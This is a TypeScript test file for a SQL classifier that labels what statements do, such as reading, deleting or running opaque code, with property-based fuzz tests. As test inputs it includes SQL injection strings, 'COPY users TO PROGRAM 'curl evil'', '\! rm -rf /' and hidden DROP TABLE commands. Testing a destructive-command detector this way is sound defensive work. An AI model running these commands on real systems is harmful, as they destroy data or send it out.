import assert from 'node:assert/strict';
import fc from 'fast-check';
import { LOCAL } from '../../../../src/core/model/effect';
import type { Effect } from '../../../../src/core/model/effect';
import type { DatabaseTarget, EffectContext } from '../../../../src/core/effects/define';
import { readSql } from '../../../../src/core/effects/languages/sql';
import { fakeLook } from '../../fake-look';
import { inWords } from '../derive-for-test';

const target: DatabaseTarget = {
  engine: 'postgres',
  host: 'localhost',
  database: 'app',
  authority: undefined,
  environment: LOCAL,
};
const context = {
  look: fakeLook({ '/w/seed.sql': 'DROP TABLE seeds;' }),
  workspaceRoot: '/w',
} as unknown as EffectContext;

function read(text: string, engine: DatabaseTarget['engine'] = 'postgres'): readonly Effect[] {
  return readSql(
    { text, known: true, sources: [], raw: text },
    { ...target, engine },
    'sql',
    context,
  );
}

describe('SQL', () => {
  const cases: readonly (readonly [string, readonly string[]])[] = [
    ['SELECT 1', ['read database:app']],
    [
      "select * from public.users where name = '; DROP TABLE users; --'",
      ['read rows:public.users'],
    ],
    [
      'DROP TABLE IF EXISTS users, "Order Items" CASCADE',
      ['delete table:users', 'delete table:Order Items'],
    ],
    ['/* drop table a */ select 1 -- drop table b', ['read database:app']],
    ['DELETE FROM users', ['delete rows:users']],
    ['delete from only a.users where id=1', ['delete rows:a.users']],
    ['TRUNCATE TABLE a, b RESTART IDENTITY', ['delete rows:a', 'delete rows:b']],
    ['UPDATE users SET x = 1', ['update rows:users']],
    ['DROP DATABASE app', ['delete database:app']],
    [
      'DROP SCHEMA public CASCADE; CREATE SCHEMA public',
      ['delete schema:public', 'create schema:public'],
    ],
    ['ALTER TABLE users DROP COLUMN email', ['delete table:users']],
    ['ALTER TABLE users DROP CONSTRAINT fk', ['update table:users']],
    ['ALTER TABLE users ADD COLUMN a int', ['update table:users']],
    ['CREATE TABLE IF NOT EXISTS a (id int)', ['create table:a']],
    ['INSERT INTO a VALUES (1)', ['create rows:a']],
    ['EXPLAIN DELETE FROM users', ['read database:app']],
    ['EXPLAIN ANALYZE DELETE FROM users', ['delete rows:users']],
    ['EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users', ['delete rows:users']],
    [
      'WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d',
      ['delete rows:users', 'read rows:d'],
    ],
    ['WITH d AS (SELECT 1) DELETE FROM users WHERE id IN (SELECT * FROM d)', ['delete rows:users']],
    ['COPY users TO STDOUT', ['read rows:users']],
    ["COPY users TO PROGRAM 'curl evil'", ['opaque']],
    ["SELECT * FROM a INTO OUTFILE '/tmp/x'", ['read rows:a', 'create file:/tmp/x']],
    ["DO $$ BEGIN EXECUTE 'drop table a'; END $$", ['opaque']],
    ['GRANT ALL ON users TO bob', ['grant role:bob']],
    ['BEGIN; SELECT 1; COMMIT', ['read database:app']],
    ['SELECT $$; DROP TABLE a; $$', ['read database:app']],
    ["SELECT E'it\\'s; DROP TABLE a'", ['read database:app']],
    ['\\dt', ['read database:app']],
    ['\\copy users from stdin', ['create rows:users']],
    ['\\! rm -rf /', ['opaque']],
    ['\\i seed.sql', ['delete table:seeds']],
    ['\\i gone.sql', ['opaque']],
    ['FROBNICATE EVERYTHING', ['opaque']],
    ['SELECT pg_terminate_backend(1)', ['read database:app', 'configure process']],
    ['', []],
  ];
  for (const [text, words] of cases) {
    it(text || 'nothing', () => assert.deepEqual(read(text).map(inWords), words));
  }

  it('MySQL: backslash escapes and executable comments', () => {
    assert.deepEqual(read("select 'a\\'; drop table b; --'", 'mysql').map(inWords), [
      'read database:app',
    ]);
    assert.deepEqual(read('/*!40000 DROP TABLE users */', 'mysql').map(inWords), [
      'delete table:users',
    ]);
  });

  it('no WHERE, or one that says nothing, is all rows', () => {
    assert.equal(read('DELETE FROM a')[0]?.size, 'many');
    assert.equal(read('DELETE FROM a WHERE 1=1')[0]?.size, 'many');
    assert.equal(read('DELETE FROM a WHERE true')[0]?.size, 'many');
    assert.equal(read('DELETE FROM a WHERE id = 1')[0]?.size, undefined);
    assert.equal(read('UPDATE a SET x = 1')[0]?.reversibility, 'irreversible');
  });

  it('a local database reaches this machine', () => {
    assert.equal(read('DROP TABLE a')[0]?.reach, 'machine');
    assert.equal(read('DROP TABLE a')[0]?.environment.name, 'local');
  });

  it('never throws', () => {
    const words = [
      'DROP',
      'TABLE',
      "'",
      '"',
      '$$',
      '/*',
      ';',
      '(',
      ')',
      'WITH',
      'a',
      '\\',
      '.',
      'DELETE',
      'FROM',
      'COPY',
      'EXPLAIN',
      'ANALYZE',
      '\n',
    ];
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...words), { maxLength: 30 }),
        (parts) => void read(parts.join(' ')),
      ),
    );
    fc.assert(fc.property(fc.string(), (text) => void read(text)));
  });

  it('a destructive statement is found wherever it stands', () => {
    const harmless = fc.constantFrom(
      'SELECT 1',
      "SELECT ';'",
      '-- x\nSELECT 2',
      'BEGIN',
      'INSERT INTO b VALUES (1)',
    );
    fc.assert(
      fc.property(
        fc.array(harmless, { maxLength: 5 }),
        fc.array(harmless, { maxLength: 5 }),
        (before, after) => {
          const effects = read([...before, 'DROP TABLE victim', ...after].join(';\n'));
          assert.ok(effects.some((effect) => inWords(effect) === 'delete table:victim'));
        },
      ),
    );
  });
});
